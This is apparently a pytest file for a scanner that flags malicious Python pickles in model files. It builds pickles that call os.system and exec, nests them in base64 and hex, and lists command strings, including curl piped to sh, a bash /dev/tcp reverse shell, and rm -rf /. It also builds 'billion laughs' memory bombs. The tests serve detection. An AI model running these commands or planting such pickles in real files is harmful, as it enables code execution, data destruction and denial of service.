"""What plain data carries: pickles within, as they are or encoded; commands as text; and a billion parts in a few bytes."""

from __future__ import annotations

import base64
import pickle
from collections.abc import Callable

import pytest

from aispm_nb.inspection.pickles.inspect import pickle_bytes
from aispm_nb.inspection.verdict import Verdict

from . import hostile

ENCODINGS: dict[str, Callable[[bytes], object]] = {
    "raw": bytes,
    "bytearray": bytearray,
    "base64": lambda raw: base64.b64encode(raw).decode(),
    "base64 for addresses": lambda raw: base64.urlsafe_b64encode(raw).decode().rstrip("="),
    "base64 as bytes": base64.b64encode,
    "hexadecimal": bytes.hex,
    "twice": lambda raw: pickle.dumps({"next": base64.b64encode(raw).decode()}),
}
INNER = {
    "stack": hostile.STYLES["stack"]("os", "system", hostile.literal((hostile.TOUCH,))),
    "global": hostile.STYLES["global"]("posix", "system", hostile.literal((hostile.TOUCH,))),
    "framed": hostile.STYLES["framed"]("builtins", "exec", hostile.literal((hostile.CODE,))),
}


def verdict(data: bytes, plain: bool = True) -> Verdict:
    return pickle_bytes(data, "x", plain).verdict


@pytest.mark.parametrize("plain", [True, False])
@pytest.mark.parametrize("protocol", range(6))
@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("inner", INNER)
def test_a_pickle_in_the_data_is_judged(inner: str, encoding: str, protocol: int, plain: bool) -> None:
    data = pickle.dumps({"weights": [1.0, 2.0], "blob": ENCODINGS[encoding](INNER[inner])}, protocol)
    row = pickle_bytes(data, "x", plain)
    assert row.verdict is Verdict.DANGEROUS
    assert row.why.startswith("its data holds a pickle that calls ")


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_honest_data_within_data_is_known(encoding: str) -> None:
    for protocol in range(6):
        inner = pickle.dumps({"weights": list(range(30)), "name": "model"}, protocol)
        assert verdict(pickle.dumps({"blob": ENCODINGS[encoding](inner)}, 4)) is Verdict.KNOWN


HONEST = {
    "a hash": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08" * 4,
    "base64 of JSON": base64.b64encode(b'{"hidden_size": 768, "num_layers": 12}').decode(),
    "a word": "transformer_encoder_layers",
    "a note": "# TODO: do not use os.system() here",
    "prose": "This model never calls os.system or subprocess, and eval (the mode) is a method of torch modules.",
    "a method": "model.eval() and compile(model)",
    "an address": "https://example.org/models/churn?version=3",
    "a template": "Review (positive | negative): {text}",
    "letters": "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/==",
    "bytes that start as a pickle": b"\x80\x04\x95" + bytes(range(64)),
    "a packed header": b"\x1f\x8b\x08\x00 and no more than that",
}


@pytest.mark.parametrize("name", HONEST)
def test_what_only_looks_so_is_known(name: str) -> None:
    assert all(verdict(pickle.dumps([HONEST[name]] * 3, protocol)) is Verdict.KNOWN for protocol in range(6))


COMMANDS = {
    "a program": "import os; os.system('id')",
    "a program of lines": "\nimport subprocess as sp\nif True:\n    sp.run(['sh'])\n",
    "a name taken from a module": "from os import system\nsystem('id')",
    "an import within": "__import__('os').popen('id')",
    "a decoder": "exec(base64.b64decode(x))",
    "a loader": "x = pickle.loads(blob)",
    "a pipe": "curl http://127.0.0.1:9/x.sh | sh",
    "a shell over a socket": "bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
    "a deletion": "rm -rf / --no-preserve-root",
    "encoded": base64.b64encode(b"os.system('touch /tmp/x')").decode(),
    "in hexadecimal": b"import subprocess\nsubprocess.run(['sh'])".hex(),
}


@pytest.mark.parametrize("name", COMMANDS)
def test_a_program_or_a_command_line_as_text(name: str) -> None:
    for protocol in range(6):
        row = pickle_bytes(pickle.dumps({"name": "model", "hook": COMMANDS[name]}, protocol), "x")
        assert row.verdict is Verdict.DANGEROUS
        assert row.why.startswith("its data holds a ")


def test_a_command_within_a_text_is_not_known() -> None:
    for text in ("Run os.system('id') to see who you are.", "First: curl http://127.0.0.1:9/x.sh | sh, then wait"):
        row = pickle_bytes(pickle.dumps([text]), "x")
        assert row.verdict is Verdict.UNKNOWN
        assert row.why.startswith("its data holds a command within a text: ")


def laughs(again: Callable[[int], bytes], levels: int = 10) -> bytes:
    """Lists of ten times the same list, ten levels deep: 10 ** 10 parts. ``again`` repeats what a level has just made."""
    data = b"(" * levels + hostile.text("lol")
    return data + b"".join(again(level) * 1 + b"l" for level in range(levels)) + b"."


BOMBS = {
    "copies": laughs(lambda _: b"2" * 9),
    "memo": laughs(lambda level: b"q%c" % level + b"h%c" % level * 9),
    "memo of protocol 4": laughs(lambda level: b"\x94" + b"h%c" % level * 9),
    "tuples": hostile.text("lol") + b"22\x87" + b"22\x87" * 30 + b".",
    "a list in itself": b"]\x94" + b"h\x00a" * 60 + b".",
    "a dictionary": b"}" + b"".join(b"q%c0}(" % i + b"".join(b"K%ch%c" % (j, i) for j in range(9)) + b"u" for i in range(12)) + b".",
    "after a class": b"ccollections\nOrderedDict\n" + laughs(lambda _: b"2" * 9)[:-1] + b"\x85R.",
}  # fmt: skip


@pytest.mark.parametrize("plain", [True, False])
@pytest.mark.parametrize("name", BOMBS)
def test_a_billion_parts_in_a_few_bytes(name: str, plain: bool) -> None:
    row = pickle_bytes(BOMBS[name], "x", plain)
    assert row.verdict is Verdict.DANGEROUS
    assert "runs out of memory" in row.why


@pytest.mark.parametrize("plain", [True, False])
def test_sharing_is_honest(plain: bool) -> None:
    row = list(range(100))
    table = [row] * 1_000
    nested = [[("a", i)] for i in range(2_000)]
    itself: list[object] = [1]
    itself.append(itself)
    for value in (table, [table] * 10, nested * 10, itself, {"a": nested, "b": nested}):
        assert all(verdict(pickle.dumps(value, protocol), plain) is Verdict.KNOWN for protocol in range(6))


@pytest.mark.parametrize("data", [b"]" + b"2" * 150 + b".", b"K\x01K\x02.", b"(K\x01."])
def test_what_is_left_on_the_stack_is_told(data: bytes) -> None:
    assert verdict(data) is Verdict.UNKNOWN
